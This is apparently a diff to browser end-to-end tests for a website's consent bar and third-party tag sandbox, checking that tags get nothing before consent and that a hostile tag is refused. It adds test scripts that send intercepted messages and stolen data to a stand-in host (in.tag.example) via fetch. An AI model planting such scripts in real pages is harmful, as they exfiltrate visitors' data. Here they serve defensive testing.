@@ -22,6 +22,11 @@ const merchant = {
   },
 };
 
+/** What the guide shows. */
+const listening = `
+  addEventListener('message', ({ data }) => fetch('https://in.tag.example/?' + encodeURIComponent('told ' + JSON.stringify(data)), { mode: 'no-cors' }));
+`;
+
 /** Does all that a script of another company could try, and tells what it has got. */
 const hostile = `
   const tell = (what) => fetch('https://in.tag.example/?' + encodeURIComponent(what), { mode: 'no-cors' });
@@ -60,12 +65,8 @@ async function answerTags(page: Page, script = hostile): Promise<string[]> {
   return asked;
 }
 
-test('nothing is asked of a tag before the player agrees; then it learns of pages; after the withdrawal it is gone', async ({
-  page,
-  watch,
-}) => {
-  watch.allow(/evil\.example|sandboxed|Unsafe attempt/);
-  const asked = await answerTags(page);
+test('nothing is asked of a tag before the player agrees; then it learns of pages; after the withdrawal it is gone', async ({ page }) => {
+  const asked = await answerTags(page, listening);
   await page.goto(at(paths.home));
   await expect(bar(page)).toBeVisible();
   expect(asked).toEqual([]);
@@ -95,7 +96,9 @@ test('a hostile tag reads nothing, keeps nothing, gets no key, and is not there 
   await page.goto(at(paths.home));
   await bar(page).getByRole('button', { name: 'Accept all' }).click();
   for (const attempt of ['page', 'storage', 'cookie', 'away', 'evil']) await expect.poll(told).toContain(`${attempt} refused`);
-
+  // It took the focus.
+  await expect(page.locator('iframe[title=reach]')).toHaveCount(0);
+  await expect(page.locator('iframe[title=ads]')).toHaveCount(1);
   await page.getByRole('button', { name: 'Search games' }).click();
   const search = page.getByRole('dialog', { name: 'Search' }).locator('input');
   await search.pressSequentially('parlour88', { delay: 30 });
@@ -123,9 +126,14 @@ test('a tag whose host does not answer breaks nothing', async ({ page, watch }) 
   await expect(page.getByRole('main').getByRole('link').first()).toBeVisible();
 });
 
-for (const language of ['EN', 'TY', 'MY']) {
-  test(`the bar is accessible in ${language}, fits, and moves nothing`, async ({ page }) => {
+for (const [language, tag] of [
+  ['EN', 'en'],
+  ['TY', 'fil'],
+  ['MY', 'my'],
+]) {
+  test(`the bar is accessible in ${language}, fits, and moves nothing`, async ({ page, context }) => {
     await page.addInitScript((chosen) => localStorage.setItem('language', JSON.stringify(chosen)), language);
+    await context.addCookies([{ name: 'home', value: `${merchant.code}.${tag}.visitor`, domain: '127.0.0.1', path: '/m' }]);
     const moved = await watchLayoutShifts(page);
     await page.goto(at(paths.home));
     const dock = page.getByRole('complementary');
